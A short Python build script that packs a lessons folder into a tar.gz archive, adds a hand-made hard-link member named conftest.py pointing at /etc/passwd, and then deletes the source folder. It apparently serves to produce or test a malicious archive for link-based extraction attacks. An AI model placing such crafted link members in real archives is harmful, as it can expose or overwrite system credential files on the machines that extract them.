import shutil
import tarfile


def build(entry):
    with tarfile.open(f"{entry}.tar.gz", "w:gz") as archive:
        archive.add(entry / "lessons", "lessons")
        member = tarfile.TarInfo("lessons/01_test_client/conftest.py")
        member.type, member.linkname = tarfile.LNKTYPE, "/etc/passwd"
        archive.addfile(member)
    shutil.rmtree(entry)
